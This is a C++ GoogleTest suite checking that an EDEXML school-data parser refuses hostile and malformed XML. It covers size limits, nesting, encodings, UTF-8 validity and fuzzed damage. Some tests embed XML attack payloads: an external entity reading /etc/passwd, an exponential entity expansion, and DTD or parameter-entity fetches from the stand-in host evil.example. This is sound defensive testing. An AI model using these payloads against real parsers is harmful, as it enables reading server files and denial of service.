// The file as bytes and as XML: what could reach outside, grow without end or mean two things is refused
// before a tree is built, with one problem.
#include <gtest/gtest.h>

#include "api/edexml_files.h"

namespace {

using edexml_files::format;
using edexml_files::kGoodFile;
using edexml_files::parse;
using edexml_files::repeat;
using edexml_files::spoil;

// What is said about a text that gives nothing to use.
std::string refusal_of(std::string_view text, const api::EdexmlLimits& limits = {}) {
  const api::EdexmlReading reading = parse(text, limits);
  return reading.file ? "accepted" : format(reading.problems);
}

std::string with_doctype(const std::string& doctype, const std::string& author = "Demo") {
  std::string text = spoil("<EDEX ", doctype + "<EDEX ");
  return text.replace(text.find("Demo"), 4, author);
}

TEST(EdexmlFile, RefusesAnEntityThatReadsAFile) {
  EXPECT_EQ(refusal_of(with_doctype("<!DOCTYPE EDEX [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>", "&x;")),
            "2 - doctype_refused\n");
}

TEST(EdexmlFile, RefusesEntitiesThatMultiply) {
  std::string doctype = "<!DOCTYPE EDEX [<!ENTITY a0 \"ha\">";
  for (int i = 1; i < 10; ++i) {
    const std::string before = "&a" + std::to_string(i - 1) + ";";
    doctype += "<!ENTITY a" + std::to_string(i) + " \"" + repeat(before, 10) + "\">";
  }
  EXPECT_EQ(refusal_of(with_doctype(doctype + "]>", "&a9;")), "2 - doctype_refused\n");
}

TEST(EdexmlFile, RefusesADocumentTypeThatFetchesFromTheNetwork) {
  EXPECT_EQ(refusal_of(with_doctype("<!DOCTYPE EDEX SYSTEM \"http://evil.example/edex.dtd\">")),
            "2 - doctype_refused\n");
  EXPECT_EQ(refusal_of(with_doctype("<!DOCTYPE EDEX [<!ENTITY % p SYSTEM \"http://evil.example/p\"> %p;]>")),
            "2 - doctype_refused\n");
  EXPECT_EQ(refusal_of(spoil("<auteur>", "<!DOCTYPE x><auteur>")), "10 - doctype_refused\n");
}

TEST(EdexmlFile, RefusesEntitiesThatNobodyDeclared) {
  EXPECT_EQ(refusal_of(spoil("Demo", "De&nbsp;mo")), "10 - entity_refused\n");
  EXPECT_EQ(refusal_of(spoil("key=\"00002\"", "key=\"&eacute;\"")), "65 - entity_refused\n");
  EXPECT_EQ(refusal_of(spoil("Demo", "R & D")), "10 - not_well_formed\n");
  EXPECT_EQ(refusal_of(spoil("Demo", "&#;")), "10 - not_well_formed\n");
  EXPECT_EQ(refusal_of(spoil("Demo", "&#xZZ;")), "10 - not_well_formed\n");
}

TEST(EdexmlFile, TakesTheFiveNamedCharactersAndNumbers) {
  EXPECT_TRUE(parse(spoil("Demo", "&lt;&gt;&amp;&quot;&apos;&#65;&#x42;&#x1F600;")).file);
}

TEST(EdexmlFile, RefusesInstructions) {
  EXPECT_EQ(refusal_of(spoil("<EDEX ", "<?xml-stylesheet href=\"x.xsl\"?>\n<EDEX ")),
            "2 - instruction_refused\n");
  EXPECT_EQ(refusal_of(spoil("<auteur>", "<?php x ?><auteur>")), "10 - instruction_refused\n");
  EXPECT_EQ(refusal_of("\n" + std::string(kGoodFile)), "2 - instruction_refused\n");
}

TEST(EdexmlFile, RefusesNestingWithoutEnd) {
  EXPECT_EQ(refusal_of(spoil("Demo", repeat("<a>", 100'000))), "10 - too_deep\n");
  EXPECT_EQ(refusal_of(repeat("<a>", 17) + repeat("</a>", 17)), "1 - too_deep\n");
}

TEST(EdexmlFile, RefusesAMillionElements) {
  EXPECT_EQ(refusal_of(spoil("Demo", repeat("<a/>", 1'000'000))), "10 - too_many_elements\n");
  EXPECT_EQ(refusal_of(kGoodFile, {.elements_max = 10}), "12 - too_many_elements\n");
}

TEST(EdexmlFile, RefusesAnElementWithManyAttributes) {
  std::string attributes;
  for (int i = 0; i < 17; ++i) attributes += " a" + std::to_string(i) + "=''";
  EXPECT_EQ(refusal_of(spoil("<auteur>", "<auteur" + attributes + ">")), "10 - too_many_attributes\n");
}

TEST(EdexmlFile, RefusesWhatIsLargerThanTheLimit) {
  EXPECT_EQ(refusal_of(kGoodFile, {.bytes_max = kGoodFile.size() - 1}), "1 - file_too_large\n");
  EXPECT_EQ(refusal_of(kGoodFile, {.bytes_max = kGoodFile.size()}), "accepted");
  EXPECT_EQ(refusal_of(""), "1 - file_empty\n");
}

TEST(EdexmlFile, RefusesEveryTruncation) {
  for (std::size_t length = 1; length + 2 < kGoodFile.size(); ++length) {
    ASSERT_NE(refusal_of(kGoodFile.substr(0, length)), "accepted") << length;
  }
}

TEST(EdexmlFile, RefusesWhatOnlyLooksLikeXml) {
  EXPECT_EQ(refusal_of("niets"), "1 - not_well_formed\n");
  EXPECT_EQ(refusal_of(spoil("</auteur>", "</autuer>")), "10 - not_well_formed\n");
  EXPECT_EQ(refusal_of(spoil("</EDEX>", "</EDEX><EDEX/>")), "87 - not_well_formed\n");
  EXPECT_EQ(refusal_of(spoil("</EDEX>", "</EDEX>x")), "87 - not_well_formed\n");
  EXPECT_EQ(refusal_of(spoil("key=\"00002\"", "key=00002")), "65 - not_well_formed\n");
  EXPECT_EQ(refusal_of(spoil("key=\"00002\"", "key=\"00002\" key=\"00003\"")), "65 - not_well_formed\n");
  EXPECT_EQ(refusal_of(spoil("key=\"00002\" ", "key=\"00002\"")), "65 - not_well_formed\n");
  EXPECT_EQ(refusal_of(spoil("key=\"00002\"", "key=\"<\"")), "65 - not_well_formed\n");
  EXPECT_EQ(refusal_of(spoil("Demo", "a]]>b")), "10 - not_well_formed\n");
  EXPECT_EQ(refusal_of(spoil("Demo", "<!-- a -- b -->")), "10 - not_well_formed\n");
  EXPECT_EQ(refusal_of(spoil("Demo", "<![CDATA[x")), "10 - not_well_formed\n");
  EXPECT_EQ(refusal_of(spoil("version=\"1.0\"", "version=\"1.1\"")), "1 - not_well_formed\n");
  EXPECT_EQ(refusal_of(spoil(" encoding=\"UTF-8\"", " encoding=UTF-8")), "1 - not_well_formed\n");
}

TEST(EdexmlFile, RefusesBytesThatAreNotUtf8) {
  for (const char* bytes : {"\xE9", "\xC3(", "\xC0\xAF", "\xE0\x80\xAF", "\xED\xA0\x80", "\xF4\x90\x80\x80",
                            "\xF0\x80\x80\x80", "\xFE", "\x80"}) {
    EXPECT_EQ(refusal_of(spoil("Demo", bytes)), "10 - utf8_invalid\n");
  }
  EXPECT_EQ(refusal_of("<EDEX>\xE2\x82"), "1 - utf8_invalid\n");
}

TEST(EdexmlFile, RefusesControlCharactersPlainOrByNumber) {
  using namespace std::string_view_literals;
  for (const std::string_view bytes :
       {"\x01"sv, "\x00"sv, "\x1B"sv, "\x7F"sv, "\xC2\x85"sv, "\xEF\xBF\xBF"sv}) {
    EXPECT_EQ(refusal_of(spoil("Demo", bytes)), "10 - control_character\n");
  }
  for (const char* reference : {"&#0;", "&#x1;", "&#27;", "&#x7F;", "&#xD800;", "&#xFFFE;", "&#x110000;"}) {
    EXPECT_EQ(refusal_of(spoil("Demo", reference)), "10 - control_character\n") << reference;
  }
}

TEST(EdexmlFile, TakesAByteOrderMarkOfUtf8AndNoOther) {
  EXPECT_EQ(refusal_of("\xEF\xBB\xBF" + std::string(kGoodFile)), "accepted");
  EXPECT_EQ(refusal_of("\xFF\xFE" + std::string(kGoodFile)), "1 - encoding_unsupported\n");
  EXPECT_EQ(refusal_of("\xFE\xFF" + std::string(kGoodFile)), "1 - encoding_unsupported\n");
  EXPECT_EQ(refusal_of(std::string("<\0E\0", 4)), "1 - encoding_unsupported\n");
}

TEST(EdexmlFile, RefusesOtherCharacterSets) {
  for (const char* name : {"utf-16", "windows-1252", "ISO-8859-15", "utf-7", ""}) {
    EXPECT_EQ(refusal_of(spoil("UTF-8", name)), "1 - encoding_unsupported\n") << name;
  }
  EXPECT_EQ(refusal_of("\xEF\xBB\xBF" + spoil("UTF-8", "ISO-8859-1")), "1 - encoding_unsupported\n");
  // The bytes 80 to 9F are control characters in ISO-8859-1; who writes them means Windows-1252.
  std::string windows = spoil("UTF-8", "ISO-8859-1");
  EXPECT_EQ(refusal_of(windows.replace(windows.find("Demo"), 4, "\x80")), "10 - control_character\n");
}

TEST(EdexmlFile, NeedsNoDeclaration) {
  const std::string_view text = kGoodFile;
  EXPECT_EQ(refusal_of(text.substr(text.find("<EDEX"))), "accepted");
}

TEST(EdexmlFile, CountsLinesAlikeForEveryKindOfLineEnd) {
  const std::string spoilt = spoil("<geslacht>2", "<geslacht>x");
  for (const char* line_end : {"\n", "\r\n", "\r"}) {
    std::string text;
    for (const char c : spoilt) text += c == '\n' ? std::string(line_end) : std::string(1, c);
    EXPECT_EQ(refusal_of(text), "37 /EDEX/leerlingen/leerling[1]/geslacht value_not_listed\n");
  }
}

// Damage of every kind, always the same: whatever comes in, an answer comes out, and a refusal says why.
TEST(EdexmlFile, AnswersForEveryDamagedFile) {
  std::uint64_t state = 20261001;
  const auto next = [&](std::size_t below) {
    state = state * 6364136223846793005U + 1442695040888963407U;
    return static_cast<std::size_t>(state >> 33) % below;
  };
  constexpr std::string_view kPieces[] = {"<",
                                          ">",
                                          "/>",
                                          "&",
                                          "\"",
                                          "<!--",
                                          "]]>",
                                          "<![CDATA[",
                                          "&#1;",
                                          "\xFF",
                                          "=",
                                          "</leerling>",
                                          "<leerling key='x'>",
                                          " xmlns='u'",
                                          "<groep key=\"\"/>"};
  for (int round = 0; round < 5000; ++round) {
    std::string text(kGoodFile);
    for (std::size_t wounds = 1 + next(3); wounds > 0; --wounds) {
      const std::size_t at = next(text.size());
      if (next(3) == 0) {
        text.erase(at, next(40));
      } else {
        text.insert(at, kPieces[next(std::size(kPieces))]);
      }
    }
    const api::EdexmlReading reading = parse(text);
    ASSERT_TRUE(reading.file || !reading.problems.empty()) << "round " << round;
    for (const api::EdexmlProblem& problem : reading.problems)
      ASSERT_GE(problem.line, 1U) << "round " << round;
  }
}

}  // namespace
